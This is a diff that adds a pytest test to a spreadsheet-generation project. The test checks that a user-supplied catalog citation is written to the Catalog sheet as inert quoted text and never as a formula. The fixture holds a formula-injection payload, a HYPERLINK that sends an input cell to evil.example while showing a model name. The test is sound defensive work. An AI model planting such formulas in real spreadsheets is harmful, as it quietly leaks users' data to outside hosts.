@@ -922,3 +922,32 @@ def test_efficiency_as_line_items_equals_the_inlined_lookup_and_python(catalog_b
         elif not (agrees(got, python_value("EFFICIENCY", args), False) and got == inlined):
             wrong.append((args, got, inlined, python_value("EFFICIENCY", args)))
     assert len(cases) > 500 and wrong == []
+
+
+def test_catalog_text_is_written_as_text_never_as_a_formula(monkeypatch, tmp_path):
+    # a user preset's citation that a spreadsheet would read as a formula (the red team's HYPERLINK sending an input
+    # to another site, shown as a harmless name) lands on the portable edition's Catalog sheet as inert text
+    import openpyxl
+
+    from xlsxplan.catalog import refresh
+
+    evil = '=HYPERLINK("http://evil.example/?"&Inputs!B5,"Qwen2.5-72B")'
+    folder = tmp_path / "catalog"
+    folder.mkdir()
+    (folder / "models.toml").write_text(
+        "[sources]\n"
+        f"'user:evil' = '{evil}'\n\n"
+        "[models.My-Model]\n"
+        'source = "user:evil"\n'
+        "params_b = 7.6\nlayers = 28\nhidden = 3584\nheads = 28\nkv_heads = 4\nhead_dim = 128\n"
+        "vocab = 152064\ncontext = 32768\n",
+        encoding="utf-8",
+    )
+    monkeypatch.setenv("XLSXPLAN_CATALOG_DIR", str(folder))
+    refresh()
+    assert "My-Model" in catalog.model_names(), catalog.catalog_problems()
+    ws = openpyxl.Workbook().active
+    native.write_catalog(ws)
+    hits = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert hits and all(c.data_type == "s" and c.quotePrefix for c in hits)
+    assert all(c.value.startswith(evil) for c in hits)
